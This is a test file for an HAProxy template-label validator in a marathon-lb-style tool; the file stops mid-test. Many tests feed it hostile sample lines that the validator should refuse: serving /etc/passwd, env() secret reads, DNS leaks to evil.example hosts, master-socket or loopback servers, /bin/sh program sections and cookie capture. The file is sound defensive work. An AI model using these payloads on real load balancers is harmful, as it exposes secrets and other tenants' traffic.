import * as fs from 'node:fs';
import * as path from 'node:path';
import { LOOKUP_PENDING } from '../../src/model/networking';
import { appTemplateText, filledTargetProblem, labelTargetNames, ownAddresses } from '../../src/model/templateLabels';
import { checkConfig, describeWithHaproxy, dryCheckedByHaproxy } from '../support/haproxy';
import { makeTestCerts, type TestCerts } from '../support/certs';
import { dryRun, tempDir } from '../support/render';

describe('appTemplateText: a per-app template label as it may be printed', () => {
  test.each([
    [
      'a literal $ inside double quotes',
      '  http-request set-header X "$SECRET ${HOME}"\n',
      '  http-request set-header X "\\$SECRET \\${HOME}"\n',
    ],
    [
      "single quotes, unquoted text and escapes are HAProxy's own",
      "  acl a path_reg '^/a$' ^/b\\$ \\\"$c\n",
      "  acl a path_reg '^/a$' ^/b\\$ \\\"$c\n",
    ],
    ['a comment is kept as written', '  mode http # "$X"\n', '  mode http # "$X"\n'],
    [
      'a regex anchor on a server line is no variable',
      '  server s 10.0.0.1:80 check # $\n  http-request deny if { path_reg ^/a$ }\n',
      '  server s 10.0.0.1:80 check # $\n  http-request deny if { path_reg ^/a$ }\n',
    ],
    ['a quoted # is not a comment', '  http-request set-header X "#$Y"\n', '  http-request set-header X "#\\$Y"\n'],
    [
      'the word file outside a response from a file',
      '  http-request set-header X-Kind file\n',
      '  http-request set-header X-Kind file\n',
    ],
    [
      'blank and comment lines before its section line',
      "\n# the app team's backend\n  \t\nbackend {backend}\n  balance {balance}\n",
      "\n# the app team's backend\n  \t\nbackend {backend}\n  balance {balance}\n",
    ],
    [
      "marathon-lb's own BACKEND_HEAD",
      '\nbackend {backend}\n  balance {balance}\n  mode {mode}\n',
      '\nbackend {backend}\n  balance {balance}\n  mode {mode}\n',
    ],
  ])('%s', (_, text, printed) => {
    const name = text.includes('backend {backend}') ? 'BACKEND_HEAD' : 'BACKEND_HTTP_OPTIONS';
    expect(appTemplateText(name, text)).toBe(printed);
  });

  test.each([
    ['NUL', 'BACKEND_HTTP_OPTIONS', '  option forwardfor\u0000\n', /control characters/],
    ['a lone CR', 'BACKEND_HTTP_OPTIONS', '  mode http\r  bogus\n', /control characters/],
    [
      'the env() fetch',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-header X %[env(SECRET)]\n',
      /line 1 reads HAProxy's environment/,
    ],
    [
      'the env() fetch in quotes',
      'BACKEND_HTTP_OPTIONS',
      '\n  http-request return lf-string "%[env(SECRET),lower]"\n',
      /line 2 reads/,
    ],
    [
      'a section in an option template',
      'BACKEND_HTTP_OPTIONS',
      '  option forwardfor\nlisten x\n  bind :81\n',
      /line 2 opens a "listen" section/,
    ],
    [
      'another section kind',
      'BACKEND_HEAD',
      '\nfrontend x\n  bind :81\nbackend {backend}\n',
      /line 2 opens a "frontend" section/,
    ],
    [
      'its own section twice',
      'BACKEND_HEAD',
      '\nbackend {backend}\nbackend other\n',
      /line 3 opens a "backend" section/,
    ],
    // Found by an attack: HAProxy reads lines ahead of a section line into the section before it.
    [
      'a directive before its own section line',
      'BACKEND_HEAD',
      '  tcp-request connection reject\nbackend {backend}\n',
      /line 1 comes before its backend section line/,
    ],
    [
      'a directive before the frontend line',
      'FRONTEND_HEAD',
      '\n  http-request deny\nfrontend {backend}\n  bind {bindAddr}:{servicePort}\n',
      /line 2 comes before its frontend section line/,
    ],
    [
      'a user before the userlist line',
      'USERLIST_HEAD',
      '  user mallory insecure-password x\nuserlist user_{backend}\n',
      /line 1 comes before its userlist section line/,
    ],
    ['an empty head template', 'BACKEND_HEAD', '', /opens no backend section/],
    ['a head template of comments only', 'USERLIST_HEAD', '\n# none\n', /opens no userlist section/],
    // Found by an audit: HAProxy fills variables into addresses, quoted, escaped or not.
    [
      'a variable in a server address',
      'BACKEND_SERVER_OPTIONS',
      '  server {serverName} ${HOSTNAME}.evil.example:{port}\n',
      /line 1 has "\$\{HOSTNAME\}.evil.example:\{port\}": HAProxy fills \$NAME/,
    ],
    [
      'a quoted, escaped variable in an address',
      'BACKEND_SERVER_OPTIONS',
      '  server {serverName} "\\${HOSTNAME}.evil.example:{port}"\n',
      /line 1 has .*HAProxy fills/,
    ],
    ['addr', 'BACKEND_SERVER_OPTIONS', '  server {serverName} {host_ipv4}:{port} addr $X\n', /HAProxy fills/],
    ['a bind address', 'FRONTEND_HEAD', '\nfrontend {backend}\n  bind $X:{servicePort}\n', /line 3 has "\$X/],
    ['a log server', 'BACKEND_HTTP_OPTIONS', '  log $LOGHOST:514 local0\n', /HAProxy fills/],
    ['a source address', 'BACKEND_HTTP_OPTIONS', '  source 0.0.0.0 usesrc ${X}\n', /HAProxy fills/],
    ['tcp-check connect addr', 'BACKEND_HTTP_OPTIONS', '  tcp-check connect addr $X port 80\n', /HAProxy fills/],
    // Found by an audit: lines are judged as HAProxy reads them, quotes and escapes undone.
    [
      'a quoted section keyword',
      'BACKEND_HTTP_OPTIONS',
      '  option forwardfor\n"backend" evil\n',
      /line 2 opens a "backend"/,
    ],
    ['an escaped section keyword', 'BACKEND_HTTP_OPTIONS', '\\x62ackend evil\n', /line 1 opens a "backend"/],
    ["a keyword split by ''", 'FRONTEND_HEAD', "\nfrontend {backend}\nfront''end evil\n", /line 3 opens a "frontend"/],
    ['a program section', 'BACKEND_HTTP_OPTIONS', '"program" pwn\n  command /bin/sh\n', /opens a "program"/],
    [
      'env() spelled with an escape',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-header X %[\\x65nv(HOME)]\n',
      /env\(\) sample fetch/,
    ],
    [
      'env() split by ""',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-header X %[e""nv(HOME)]\n',
      /env\(\) sample fetch/,
    ],
    [
      'a conditional block',
      'BACKEND_HTTP_OPTIONS',
      '.if defined(HOME)\n  option forwardfor\n.endif\n',
      /line 1 is a \.if directive/,
    ],
    [
      'a file returned as a response',
      'BACKEND_HTTP_OPTIONS',
      '  http-request return status 200 content-type text/plain file /etc/passwd if { path /leak }\n',
      /reads files on the load balancer/,
    ],
    ['an errorfile', 'BACKEND_HTTP_OPTIONS', '  errorfile 503 /run/secrets/token\n', /"errorfile"/],
    [
      'a map converter',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-header X %[src,map_ip(/etc/hosts)]\n',
      /"%\[src,map_ip/,
    ],
    ['a pattern file', 'BACKEND_HTTP_OPTIONS', '  acl x req.hdr(x) -f /etc/passwd\n', /"-f"/],
    [
      'changing the routing map',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-map(/etc/haproxy/domain2backend.map) %[req.hdr(x)] evil\n',
      /changes the maps other apps are routed by/,
    ],
    ['stats admin', 'BACKEND_HTTP_OPTIONS', '  stats admin if TRUE\n', /line 1 is "stats admin"/],
    // An audit: served on the app's own vhost, they showed anyone every other app's task addresses.
    [
      "HAProxy's stats page",
      'BACKEND_HTTP_OPTIONS',
      '  stats enable\n  stats uri /\n',
      /line 1 serves HAProxy's stats page, which shows every app's servers/,
    ],
    [
      "HAProxy's Prometheus exporter",
      'BACKEND_HTTP_OPTIONS',
      '  http-request use-service prometheus-exporter\n',
      /line 1 serves HAProxy's Prometheus exporter/,
    ],
    // A second audit: a NUL made with \x00 ends HAProxy's word, other brackets for set-map, Lua services.
    ['a keyword ended by \\x00', 'BACKEND_HTTP_OPTIONS', 'listen\\x00 evil\n', /control character with an escape/],
    [
      'file ended by \\x00',
      'BACKEND_HTTP_OPTIONS',
      '  http-request return status 200 file\\x00 /etc/passwd\n',
      /control character/,
    ],
    [
      'set-map with square brackets',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-map[/etc/haproxy/domain2backend.map] victim.example.com a_10001\n',
      /changes the maps other apps are routed by/,
    ],
    [
      'a Lua service of the load balancer',
      'BACKEND_HTTP_OPTIONS',
      '  http-request use-service lua.getconfig\n',
      /Lua services/,
    ],
    // A third audit: sections of HAProxy 2.6 and later, addresses there, other files HAProxy reads.
    [
      'a log-forward section whose dgram-bind sends a variable out by DNS',
      'BACKEND_SERVER_OPTIONS',
      '  server {serverName} {host_ipv4}:{port}\nlog-forward x\n  dgram-bind $HOSTNAME.evil.invalid:5514\n',
      /line 2 opens a "log-forward" section/,
    ],
    ['a crt-store section (3.0)', 'BACKEND_HTTP_OPTIONS', 'crt-store x\n', /opens a "crt-store" section/],
    ['a variable in a dgram-bind', 'BACKEND_HTTP_OPTIONS', '  dgram-bind "${HOSTNAME}":1\n', /fills \$NAME/],
    [
      "a filter's config file (its lines come back in HAProxy's errors)",
      'BACKEND_HTTP_OPTIONS',
      '  filter spoe engine x config /etc/passwd\n',
      /line 1 uses "config", which reads files/,
    ],
    ['a certificate list', 'FRONTEND_HEAD', '\nfrontend x\n  bind :1 ssl crt-list /etc/passwd\n', /"crt-list"/],
    ['a server state file', 'BACKEND_HTTP_OPTIONS', '  server-state-file-name /etc/passwd\n', /reads files/],
    ['an external check', 'BACKEND_HTTP_OPTIONS', '  option external-check\n', /runs programs/],
    // A fourth audit: servers on the load balancer's own sockets and ports, `default` before a
    // keyword, replies from files in deny and tarpit.
    [
      "HAProxy's master CLI as a server (it runs admin commands on every app)",
      'BACKEND_HEAD',
      '\nbackend {backend}\n  mode tcp\n  server cli unix@/var/run/haproxy/master.sock\n',
      /line 4 sends traffic to "unix@\/var\/run\/haproxy\/master.sock", a socket on the load balancer/,
    ],
    ['the stats socket as a server', 'BACKEND_HTTP_OPTIONS', '  server s /var/run/haproxy/socket\n', /a socket/],
    ['an abstract socket', 'BACKEND_HTTP_OPTIONS', '  server-template s 1 abns@x\n', /a socket/],
    [
      "the load balancer's stats and Lua port as a server",
      'BACKEND_HTTP_OPTIONS',
      '  server s 127.0.0.1:9090\n',
      /sends traffic to "127.0.0.1:9090", the load balancer itself/,
    ],
    [
      'localhost, as a check address',
      'BACKEND_HTTP_OPTIONS',
      '  server s 10.0.0.1:80 check addr localhost port 9191\n',
      /the load balancer itself/,
    ],
    [
      'IPv6 loopback through socks4',
      'BACKEND_HTTP_OPTIONS',
      '  default-server socks4 [::1]:1080\n',
      /the load balancer itself/,
    ],
    [
      'a variable in a default log',
      'BACKEND_HTTP_OPTIONS',
      '  default log ${SECRET}.x.invalid:514 local0\n',
      /fills \$NAME/,
    ],
    [
      'a file served by http-request deny',
      'BACKEND_HTTP_OPTIONS',
      '  http-request deny status 200 content-type text/plain file /etc/passwd\n',
      /uses "file", which reads files/,
    ],
    ['a file served by tarpit', 'BACKEND_HTTP_OPTIONS', '  http-request tarpit lf-file /etc/passwd\n', /"lf-file"/],
    [
      'a file served by http-response deny',
      'BACKEND_HTTP_OPTIONS',
      '  http-response deny file /etc/passwd\n',
      /"file"/,
    ],
    [
      'a line feed made by \\n',
      'BACKEND_HTTP_OPTIONS',
      '  http-request set-header X "a\\nbackend INJ"\n',
      /control character with an escape/,
    ],
  ])('refused: %s', (_, name, text, why) => {
    const r = appTemplateText(name, text);
    expect(typeof r === 'string' ? r : r.error).toMatch(why);
  });

  test("servers from Marathon's task hosts are served whatever they are (only a label's own text is judged for loopback)", () => {
    const rendered = '  server 127_0_0_1_31000 127.0.0.1:31000 check\n';
    expect(appTemplateText('BACKEND_SERVER_OPTIONS', rendered, undefined, 10000)).toBe(rendered);
  });

  // Each of these reached a server on 127.0.0.1 through a real HAProxy 2.6 (test/e2e/label-loopback.test.ts).
  test.each([
    '127.1:9090',
    '2130706433:9090',
    '0x7f.1:9090',
    '0177.0.0.1:9090',
    '[::ffff:7f00:1]:9090',
    '[0:0:0:0:0:0:0:1]:9090',
    '::1:9090',
    'ipv6@::ffff:127.0.0.1:9090',
    'LocalHost.:9090',
    'ip6-localhost:9090',
    ':9090',
  ])('a loopback address in another spelling is refused: server s %s', (address) => {
    const r = appTemplateText('BACKEND_HTTP_OPTIONS', `  server s ${address}\n`);
    expect(typeof r === 'string' ? r : r.error).toMatch(/the load balancer itself/);
  });

  test('a name that resolves to the loopback is refused; other addresses and names are served', () => {
    const resolve = (h: string): string | undefined =>
      ({ 'lb.example.test': '127.0.0.1', 'app.example.test': '10.0.0.7' })[h];
    const refused = appTemplateText(
      'BACKEND_HTTP_OPTIONS',
      '  server s LB.example.test.:9090 check\n',
      undefined,
      undefined,
      resolve,
    );
    expect(typeof refused === 'string' ? refused : refused.error).toMatch(
      /"LB.example.test.:9090", the load balancer itself/,
    );
    for (const address of [
      'app.example.test:80',
      '10.0.0.1:9090',
      '[2001:db8::1]:80',
      '2001:db8::1:80',
      '128.0.0.1:80',
      'unknown.example.test:80',
    ])
      expect(appTemplateText('BACKEND_HTTP_OPTIONS', `  server s ${address}\n`, undefined, undefined, resolve)).toBe(
        `  server s ${address}\n`,
      );
    expect(
      labelTargetNames(
        'BACKEND_HTTP_OPTIONS',
        '  server s LB.example.test.:9090 check addr app.example.test\n  server t 10.0.0.1:80\n',
      ),
    ).toEqual(['lb.example.test', 'app.example.test']);
  });

  test('a name not looked up yet (or not answered yet) is refused until it answers; one known not to resolve is left to HAProxy', () => {
    const resolve = (h: string): string | undefined =>
      ({ 'slow.example.test': LOOKUP_PENDING, 'app.example.test': '10.0.0.7' })[h];
    const judged = (line: string) => {
      const r = appTemplateText('BACKEND_HTTP_OPTIONS', line, undefined, undefined, resolve);
      return typeof r === 'string' ? r : r.error;
    };
    expect(judged('  server s slow.example.test:80\n')).toMatch(
      /"slow.example.test", a name that has not answered its lookup yet/,
    );
    expect(judged('  server s 10.0.0.1:80 check addr slow.example.test\n')).toMatch(/has not answered its lookup yet/);
    expect(judged('  server s app.example.test:80 init-addr none\n')).toBe(
      '  server s app.example.test:80 init-addr none\n',
    );
    expect(judged('  server s gone.example.test:80\n')).toBe('  server s gone.example.test:80\n');
  });

  test.each([
    ['HTTP_FRONTEND_ACL', '  log 127.0.0.1:514 local0\n'],
    ['HTTPS_FRONTEND_ACL_WITH_PATH', '  log /dev/log local0\n'],
    ['HTTP_FRONTEND_ROUTING_ONLY', '  no log\n'],
    ['MAP_HTTP_FRONTEND_APPID_ACL', '  default log 10.0.0.9:514 local0\n'],
  ])('a log line in a frontend every app shares (%s) is refused', (name, line) => {
    const r = appTemplateText(name, line);
    expect(typeof r === 'string' ? r : r.error).toMatch(/line 1 is a "log" line in a frontend every app shares/);
  });

  test.each([
    [
      '  http-request set-var(proc.loot) req.fhdr(cookie) if { hdr(host) -i vic.example.com }\n',
      /a variable kept past the request/,
    ],
    [
      '  http-request set-header X-A %[req.fhdr(cookie),set-var(sess.loot)]\n',
      /"%\[req.fhdr\(cookie\),set-var\(sess.loot\)\]", a variable kept/,
    ],
    ['  http-request set-var-fmt(proc.loot) "%[req.fhdr(cookie)]"\n', /a variable kept past the request/],
    ['  http-request set-log-level silent\n', /sets the log level/],
    ['  option dontlog-normal\n', /sets a logging option/],
    ['  no option httplog\n', /sets a logging option/],
    ['  log-format "%{+Q}r"\n', /is a "log-format" line/],
  ])('in a frontend every app shares, %j is refused', (line, why) => {
    const r = appTemplateText('HTTP_FRONTEND_ACL', line);
    expect(typeof r === 'string' ? r : r.error).toMatch(why);
  });

  test("a transaction's own variables and the app's own sections are served", () => {
    const text = '  http-request set-var(txn.host) req.hdr(host)\n  http-request set-header X-H %[var(txn.host)]\n';
    expect(appTemplateText('HTTP_FRONTEND_ACL', text)).toBe(text);
    const own = '  http-request set-var(proc.hits) int(1)\n  option dontlog-normal\n';
    expect(appTemplateText('BACKEND_HTTP_OPTIONS', own)).toBe(own);
  });

  test.each(['BACKEND_HSTS_OPTIONS', 'BACKEND_HTTP_OPTIONS', 'FRONTEND_BACKEND_GLUE'])(
    "log lines in the app's own sections (%s) are served",
    (name) => {
      const text = '  log 10.0.0.9:514 local0\n  log global\n  option httplog\n';
      expect(appTemplateText(name, text)).toBe(text);
    },
  );

  test("the load balancer's own interface addresses are refused as the loopback is, in any spelling; others are served", () => {
    const own = ownAddresses(['10.1.2.3', 'fe80::1%eth0', '2001:db8::5', 'not an address']);
    const resolve = (h: string): string | undefined => ({ 'lb.example.test': '10.1.2.3' })[h];
    const judged = (address: string) => {
      const r = appTemplateText('BACKEND_HTTP_OPTIONS', `  server s ${address}\n`, undefined, undefined, resolve, own);
      return typeof r === 'string' ? 'served' : r.error;
    };
    for (const address of [
      '10.1.2.3:9090',
      '012.1.2.3:9090',
      '[::ffff:10.1.2.3]:9090',
      '[fe80::1]:80',
      '[2001:db8:0::5]:80',
      'lb.example.test:9090',
    ])
      expect(judged(address)).toMatch(/the load balancer itself/);
    for (const address of ['10.1.2.4:80', '[2001:db8::6]:80', 'app.example.test:80'])
      expect(judged(address)).toBe('served');
  });

  test("once placeholders are filled in, a server at the load balancer's own address is refused too", () => {
    const own = ownAddresses(['192.0.2.2', 'fd00::2']);
    const filled = (line: string) =>
      filledTargetProblem('BACKEND_HEAD', `\nbackend web_10001\n${line}\n`, () => new Set(), own);
    expect(filled('  server evil 192.0.2.2:9090')).toMatch(
      /line 3 sends traffic to "192.0.2.2:9090", the load balancer itself/,
    );
    expect(filled('  server evil [fd00::2]:9090')).toMatch(/the load balancer itself/);
    expect(filled('  server ok 192.0.2.3:9090')).toBeNull();
  });

  test("HAProxy's own \\r\\n idiom in option httpchk is served", () => {
    const text = '  option  httpchk GET /health HTTP/1.1\\r\\nHost:\\ www\n';
    expect(appTemplateText('BACKEND_HTTP_HEALTHCHECK_OPTIONS', text)).toBe(text);
  });

  test('binds of its own service port on any address are served', () => {
    const text = '\nfrontend a_10001\n  bind 127.0.0.1:10001,[::1]:10001,:::10001 v4v6\n';
    expect(appTemplateText('FRONTEND_HEAD', text, undefined, 10001)).toBe(text);
  });

  // HAProxy 2.6 renames its socket over whatever file the path names (an audit replaced the
  // operator's --ssl-certs file, and every reload after failed).
  test.each(['/etc/haproxy/cert.pem', 'unix@/tmp/a.sock', 'abns@x', 'fd@3', ':10001,/tmp/b.sock'])(
    'a bind of a socket is refused, filled in or not: bind %s',
    (address) => {
      const text = `\nfrontend a_10001\n  bind ${address}\n`;
      for (const port of [undefined, 10001]) {
        const r = appTemplateText('FRONTEND_HEAD', text, undefined, port);
        expect(typeof r === 'string' ? r : r.error).toMatch(/line 3 binds ".*", a socket on the load balancer/);
      }
    },
  );

  test("a placeholder's colon does not hide the loopback written beside it", () => {
    const r = appTemplateText('BACKEND_HTTP_OPTIONS', '  server s 127.0.0.1:{servicePort:d}\n');
    expect(typeof r === 'string' ? r : r.error).toMatch(/the load balancer itself/);
  });

  test('a word that only starts like a section keyword, or env( inside another name, is not refused', () => {
    expect(appTemplateText('BACKEND_HTTP_OPTIONS', '  backends-x y\n  http-request set-var(txn.env) str(a)\n')).toBe(
      '  backends-x y\n  http-request set-var(txn.env) str(a)\n',
    );
    expect(appTemplateText('BACKEND_HTTP_OPTIONS', '  acl e req.hdr(x-env(1)) -m found\n')).toBe(
      '  acl e req.hdr(x-env(1)) -m found\n',
    );
  });
});

describe('a template label is judged again once its placeholders are filled in', () => {
  const app = (labels: Record<string, string>): Record<string, unknown> => ({
    id: '/a',
    instances: 1,
    labels: { HAPROXY_GROUP: 'external', ...labels },
    portDefinitions: [{ port: 10001 }],
    tasks: [{ id: 'a.1', host: '10.0.0.1', ports: [31000], state: 'TASK_RUNNING' }],
  });
  test.each([
    [
      'an empty placeholder splitting env(',
      {
        HAPROXY_0_BACKEND_SERVER_OPTIONS:
          '  server {serverName} {host_ipv4}:{port} id {serverId}\n  http-response set-header X %[e{otherOptions}nv(SECRET)]\n',
      },
      /HAPROXY_0_BACKEND_SERVER_OPTIONS: with its placeholders filled in, line 2 reads HAProxy's environment/,
    ],
    [
      'an empty placeholder splitting a section keyword',
      {
        HAPROXY_0_BACKEND_SERVER_OPTIONS:
          '  server {serverName} {host_ipv4}:{port} id {serverId}\nlis{otherOptions}ten evil\n',
      },
      /line 2 opens a "listen" section/,
    ],
    [
      "the vhost's value completing env(",
      {
        HAPROXY_0_VHOST: 'env',
        HAPROXY_0_HTTP_FRONTEND_ACL:
          '  acl host_{cleanedUpHostname} hdr(host) -i {hostname}\n  http-request set-header X %[{hostname}(SECRET)]\n  use_backend {backend} if host_{cleanedUpHostname}\n',
      },
      /HAPROXY_0_HTTP_FRONTEND_ACL: with its placeholders filled in, line 2 reads HAProxy's environment/,
    ],
    [
      "a frontend binding :80 and another app's port beside its own (HAProxy split their connections)",
      {
        HAPROXY_0_FRONTEND_HEAD:
          '\nfrontend {backend}\n  bind {bindAddr}:{servicePort}\n  bind *:80\n  bind *:10002\n  mode {mode}\n',
      },
      /HAPROXY_0_FRONTEND_HEAD: with its placeholders filled in, line 4 binds port 80, not its service port 10001/,
    ],
    [
      'a bind in the shared HTTP frontend, in a list of addresses',
      {
        HAPROXY_0_VHOST: 'a.example.com',
        HAPROXY_0_HTTP_FRONTEND_ACL: '  bind 127.0.0.1:10001,[::1]:10002-10003\n  use_backend {backend} if TRUE\n',
      },
      /line 1 binds port 10002-10003, not its service port 10001/,
    ],
    // A format spec's fill writes the first character of an address the label alone did not spell.
    [
      'a fill completing the loopback in a server line',
      {
        HAPROXY_0_BACKEND_HEAD:
          '\nbackend {backend}\n  balance {balance}\n  mode {mode}\n  server s1 {backend:1>1.0}27.0.0.1:9090\n',
      },
      /HAPROXY_0_BACKEND_HEAD: with its placeholders filled in, line 5 sends traffic to "127.0.0.1:9090", the load balancer itself/,
    ],
    [
      'a fill completing localhost as a check address',
      {
        HAPROXY_0_BACKEND_SERVER_OPTIONS:
          '  server {serverName} {host_ipv4}:{port} check addr {serverName:l>1.0}ocalhost port 9191\n',
      },
      /line 1 sends traffic to "localhost", the load balancer itself/,
    ],
    [
      'a fill making a host name that was never looked up',
      {
        HAPROXY_0_BACKEND_HEAD:
          '\nbackend {backend}\n  balance {balance}\n  mode {mode}\n  dispatch {backend:1>1.0}27.0.0.1.nip.io:9090\n',
      },
      /line 5 sends traffic to "127.0.0.1.nip.io:9090", a host name its placeholders make/,
    ],
    [
      'a fill making a socket path to bind',
      {
        HAPROXY_0_FRONTEND_HEAD: '\nfrontend {backend}\n  bind {bindAddr}:{servicePort}\n  bind {backend:/>1.0}tmp/x\n',
      },
      /with its placeholders filled in, line 4 binds "\/tmp\/x", a socket on the load balancer/,
    ],
    // A second audit: each served HAProxy's stats page through the app's own port.
    [
      'init-addr: the address of a name that does not resolve',
      { HAPROXY_0_BACKEND_SERVER_OPTIONS: '  server {serverName} nowhere.invalid:9090 init-addr 127.0.0.1\n' },
      /line 1 sends traffic to "127.0.0.1", the load balancer itself/,
    ],
    [
      'init-addr in a default-server line, after other methods',
      {
        HAPROXY_0_BACKEND_HEAD:
          '\nbackend {backend}\n  balance {balance}\n  mode {mode}\n  default-server init-addr last,libc,127.0.0.1\n',
      },
      /line 5 sends traffic to "127.0.0.1", the load balancer itself/,
    ],
    [
      'a health-check options label with check and socks4 addresses (printed into every server line)',
      {
        HAPROXY_0_BACKEND_SERVER_HTTP_HEALTHCHECK_OPTIONS:
          '  check inter 2s addr 127.0.0.1 port 9090 socks4 127.0.0.1:9091 check-via-socks4\n',
      },
      /HAPROXY_0_BACKEND_SERVER_HTTP_HEALTHCHECK_OPTIONS: line 1 sends traffic to "127.0.0.1", the load balancer itself/,
    ],
    [
      "an agent check's address",
      {
        HAPROXY_0_BACKEND_SERVER_OPTIONS:
          '  server {serverName} {host_ipv4}:{port} agent-check agent-addr 127.1 agent-port 9090\n',
      },
      /line 1 sends traffic to "127.1", the load balancer itself/,
    ],
    [
      'option transparent, the destination set by a rule',
      {
        HAPROXY_0_BACKEND_HEAD:
          '\nbackend {backend}\n  mode http\n  option transparent\n  http-request set-dst ipv4(127.0.0.1)\n',
      },
      /line 4 is "option transparent"/,
    ],
  ])('%s: the port is left out', async (_n, labels, why) => {
    const dir = tempDir();
    try {
      const file = path.join(dir, 'apps.json');
      fs.writeFileSync(file, JSON.stringify({ apps: [app(labels)] }));
      const run = await dryRun(['--apps-file', file, '--group', 'external']);
      expect(run.code).toBe(0);
      expect(run.stderr).toMatch(why);
      expect(run.stdout).not.toMatch(/env\(|^listen evil/m);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

test("a server label on a task that runs on the load balancer's host is served: the task's address is Marathon's", async () => {
  const dir = tempDir();
  try {
    const file = path.join(dir, 'apps.json');
    const labels = {
      HAPROXY_GROUP: 'external',
      HAPROXY_0_BACKEND_SERVER_OPTIONS: '  server {serverName} {host_ipv4}:{port} check addr {host} port 9191\n',
    };
    const task = { id: 'a.1', host: '127.0.0.1', ports: [31000], state: 'TASK_RUNNING' };
    fs.writeFileSync(
      file,
      JSON.stringify({ apps: [{ id: '/a', labels, portDefinitions: [{ port: 10001 }], tasks: [task] }] }),
    );
    const run = await dryRun(['--apps-file', file, '--group', 'external']);
    expect(run.stderr).toBe('');
    expect(run.stdout).toContain('  server 127_0_0_1_31000 127.0.0.1:31000 check addr 127.0.0.1 port 9191\n');
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

// A second audit: both were refused, though marathon-lb renders them and HAProxy takes them.
test.each([
  [
    'a check host named in the health-check options label, printed into the server label',
    {
      HAPROXY_0_BACKEND_SERVER_HTTP_HEALTHCHECK_OPTIONS:
        '  check inter {healthCheckIntervalSeconds}s fall {healthCheckFalls} addr health.example.com{healthCheckPortOptions}\n',
      HAPROXY_0_BACKEND_SERVER_OPTIONS:
        '  server {serverName} {host_ipv4}:{port}{cookieOptions}{healthCheckOptions}{otherOptions}\n',
    },
    'addr health.example.com',
  ],
  [
    'prometheus-exporter as a vhost, in a frontend ACL label',
    {
      HAPROXY_0_VHOST: 'prometheus-exporter',
      HAPROXY_0_HTTP_FRONTEND_ACL:
        '  acl host_{cleanedUpHostname} hdr(host) -i {hostname}\n  use_backend {backend} if host_{cleanedUpHostname}\n',
    },
    'hdr(host) -i prometheus-exporter',
  ],
])('served: %s', async (_n, labels, printed) => {
  const dir = tempDir();
  try {
    const file = path.join(dir, 'apps.json');
    const app = {
      id: '/a',
      labels: { HAPROXY_GROUP: 'external', ...labels },
      portDefinitions: [{ port: 10001 }],
      healthChecks: [{ protocol: 'HTTP', path: '/', portIndex: 0 }],
      tasks: [{ id: 'a.1', host: '10.0.0.1', ports: [31000], state: 'TASK_RUNNING' }],
    };
    fs.writeFileSync(file, JSON.stringify({ apps: [app] }));
    const run = await dryRun(['--apps-file', file, '--group', 'external']);
    expect(run.stderr).toBe('');
    expect(run.stdout).toContain(printed);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

describeWithHaproxy('a template line holds as many words as HAProxy reads, no more', () => {
  const words = (n: number): string => Array.from({ length: n }, (_, i) => `w${i}`).join(' ');
  // `acl a path` and its patterns: any number of words is valid HAProxy, but for the line's limit.
  const lines: [string, string][] = [
    ['64 words', `  acl a path ${words(61)}`],
    ['64 words and a blank', `  acl a path ${words(61)} `],
    ['64 words and a comment after a blank', `  acl a path ${words(61)} # c`],
    ['64 words and a comment right after', `  acl a path ${words(61)}#c`],
    ['65 words', `  acl a path ${words(62)}`],
    ['63 words and a long comment', `  acl a path ${words(60)} # ${words(80)}`],
    ['quoted and escaped blanks inside words', `  acl a path ${words(58)} "x y" 'z w' a\\ b`],
    ['one quoted word too many', `  acl a path ${words(58)} "x y" 'z w' a\\ b c`],
  ];
  test.each(lines)('%s: refused exactly when HAProxy refuses it', async (_name, line) => {
    const dir = tempDir();
    try {
      const cfg = path.join(dir, 'haproxy.cfg');
      const head = 'defaults\n  mode http\n  timeout client 1s\n  timeout server 1s\n  timeout connect 1s\n';
      fs.writeFileSync(
        cfg,
        `${head}frontend f\n  bind 127.0.0.1:1\n  default_backend b\nbackend b\n${line}\n  server s 127.0.0.1:1\n`,
      );
      const check = await checkConfig(cfg);
      const verdict = appTemplateText('BACKEND_HTTP_OPTIONS', `${line}\n`);
      expect(typeof verdict === 'string').toBe(check.ok);
      if (typeof verdict !== 'string') expect(verdict.error).toMatch(/HAProxy reads at most 64 a line/);
      if (!check.ok) expect(check.output).toMatch(/too many words/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describeWithHaproxy(
  "a head template label keeps to its own section (found by an attack: it wrote into another app's)",
  () => {
    let certs: TestCerts;
    beforeAll(() => {
      certs = makeTestCerts();
    });
    const app = (id: string, port: number, ip: string, labels: Record<string, string>): Record<string, unknown> => ({
      id,
      instances: 1,
      labels: {
        HAPROXY_GROUP: 'external',
        HAPROXY_0_VHOST: `${id.slice(1)}.example.com`,
        HAPROXY_0_MODE: 'http',
        ...labels,
      },
      portDefinitions: [{ port }],
      tasks: [{ id: `${id.slice(1)}.1`, host: ip, ports: [31000], state: 'TASK_RUNNING' }],
    });
    const run = async (
      labels: Record<string, string>,
      goodLabels: Record<string, string> = {},
    ): Promise<{ stderr: string; config: string }> =>
      // The app with the labels sorts after the good one: its sections come right after the good one's.
      dryCheckedByHaproxy(
        [app('/good', 10001, '10.0.0.9', goodLabels), app('/zbad', 10002, '10.6.6.6', labels)],
        certs.serverCert + certs.serverKey,
      );
    /** The lines of one section, from its line to the next section's. */
    const section = (config: string, head: string): string => {
      const from = config.indexOf(`\n${head}\n`);
      expect(from).toBeGreaterThanOrEqual(0);
      const next = config.slice(from + head.length + 2).search(/^\S/m);
      return config.slice(from, next < 0 ? undefined : from + head.length + 2 + next);
    };

    test.each([
      [
        'an empty BACKEND_HEAD (its servers went into the good backend)',
        { HAPROXY_0_BACKEND_HEAD: '' },
        /opens no backend section/,
      ],
      [
        'a rule before the backend line (it went into the good backend)',
        { HAPROXY_0_BACKEND_HEAD: '  http-request deny\nbackend {backend}\n  balance {balance}\n  mode {mode}\n' },
        /line 1 comes before its backend section line/,
      ],
      [
        'a rule before the frontend line (it went into the shared HTTPS frontend)',
        {
          HAPROXY_0_FRONTEND_HEAD:
